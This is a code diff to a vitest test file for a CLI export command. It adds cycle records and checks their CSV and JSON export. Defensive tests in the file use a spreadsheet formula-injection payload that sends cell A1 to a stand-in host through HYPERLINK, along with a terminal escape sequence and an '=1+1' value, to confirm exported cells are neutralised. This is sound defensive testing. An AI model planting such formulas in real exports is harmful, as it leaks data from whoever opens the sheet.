@@ -4,10 +4,13 @@ import { join } from 'node:path';
 import { spawn } from '@lydell/node-pty';
 import { parse } from 'csv-parse/sync';
 import { beforeAll, describe, expect, it } from 'vitest';
+import { openStore } from '../../src/adapters/sqlite/open-store.ts';
+import { CYCLE_FIELDS } from '../../src/core/exchange/cycle-fields.ts';
 import { RECIPE_FIELDS } from '../../src/core/exchange/recipe-fields.ts';
 import { RUN_FIELDS } from '../../src/core/exchange/run-fields.ts';
 import { TRIAL_FIELDS } from '../../src/core/exchange/trial-fields.ts';
 import { contentsOf, tamper } from '../adapters/sqlite/filled-store.ts';
+import { cycleOf } from '../adapters/sqlite/samples.ts';
 import { logText, PLAIN_LOG, SOAK_S } from './exchange-helpers.ts';
 import { PROGRAM, runProgram, temporaryFolder, until } from './run-program.ts';
 
@@ -17,11 +20,29 @@ const run = (...args: string[]) => runProgram(args, { DWELLWRIGHT_STORE: store }
 const json = (...args: string[]) => JSON.parse(run(...args, '--json').out);
 /** A reason as somebody might type it to harm whoever opens the sheet. */
 const HARMFUL = '=HYPERLINK("http://example.invalid/?"&A1,"open");\u001b[31m+1';
+/** One with everything measured, one with next to nothing and harmful initials. */
+const CYCLES = [
+  cycleOf('cycle-1', {
+    holdCountedS: 118.5,
+    hold: 'not-verified',
+    platensAtClosingC: { upper: 231.8, lower: 230.4 },
+    lowestC: 176.9,
+    peakC: 214.3,
+    result: 'opened-early',
+    dwellHeldS: 171.5,
+    flags: ['opened-early', 'hold-not-verified', 'closed-too-soon'],
+  }),
+  cycleOf('cycle-2', { initials: '=1+1', platensAtClosingC: { upper: null, lower: null } }),
+];
 
 let trialId = '';
 beforeAll(() => {
   expect(run('demo', '--plain').code).toBe(0);
   trialId = json('trials').trials[0].trialId;
+  const opened = openStore({ path: store });
+  const [recordingId = null] = opened.recordingIds();
+  for (const cycle of CYCLES) opened.saveCycle({ ...cycle, recordingId });
+  opened.close();
   expect(run('set-aside', trialId, '2', '--reason', HARMFUL).code).toBe(0);
 });
 
@@ -63,12 +84,51 @@ describe('export', () => {
     expect([recipe.dwellS, recipe.restsOn.length]).toEqual([shown.dwellS, shown.restsOn.length]);
   });
 
+  it('cycles hold each figure under its name; what was not measured is empty in CSV and null in JSON', () => {
+    const rows = parse(run('export', 'cycles').out, { columns: true }) as Record<string, string>[];
+    expect(rows).toHaveLength(2);
+    expect(rows[0]).toMatchObject({
+      cycleId: 'cycle-1',
+      assembly: 'WB-212',
+      press: 'North',
+      recipeVersion: '1',
+      recordingId: json('recordings').recordings[0].recordingId,
+      simulated: 'true',
+      initials: 'JS',
+      closedAt: '2026-03-03T08:00:00.000Z',
+      closedBy: 'key',
+      dwellWantedS: '177',
+      dwellHeldS: '171.5',
+      holdWantedS: '120',
+      holdCountedS: '118.5',
+      hold: 'not-verified',
+      upperPlatenAtClosingC: '231.8',
+      lowerPlatenAtClosingC: '230.4',
+      lowestAfterCrossingC: '176.9',
+      peakC: '214.3',
+      result: 'opened-early',
+    });
+    expect(rows[1]).toMatchObject({
+      initials: "'=1+1",
+      holdCountedS: '',
+      peakC: '',
+      upperPlatenAtClosingC: '',
+    });
+    const shown = JSON.parse(run('export', 'cycles', '--format', 'json').out);
+    expect(shown.rows[0].flags).toEqual(['opened-early', 'hold-not-verified', 'closed-too-soon']);
+    expect(shown.rows[1]).toMatchObject({ initials: '=1+1', holdCountedS: null, peakC: null, flags: [] });
+    expect(run('export', 'cycles', '--trial', trialId)).toMatchObject({
+      code: 2,
+      err: expect.stringContaining('belong to no trial'),
+    });
+  });
+
   it('the csv module of Python reads every table as csv-parse does, and no cell of text begins a formula', () => {
     if (spawnSync('python3', ['--version']).status !== 0) {
       console.warn('skipped: there is no python3 on this machine');
       return;
     }
-    for (const what of ['runs', 'trials', 'recipes']) {
+    for (const what of ['runs', 'trials', 'recipes', 'cycles']) {
       const file = join(folder, `${what}.csv`);
       expect(run('export', what, '--out', file)).toMatchObject({ code: 0 });
       const script =
@@ -106,7 +166,7 @@ describe('export', () => {
 
   it('fields: names every field of every table', () => {
     const { out } = run('export', 'fields');
-    for (const { name, about } of [...RUN_FIELDS, ...TRIAL_FIELDS, ...RECIPE_FIELDS])
+    for (const { name, about } of [...RUN_FIELDS, ...TRIAL_FIELDS, ...RECIPE_FIELDS, ...CYCLE_FIELDS])
       expect(out).toMatch(new RegExp(`^ {2}${name} +${about.replace(/[.*+?^$()[\]{}|]/g, '\\$&')}$`, 'm'));
   });
 
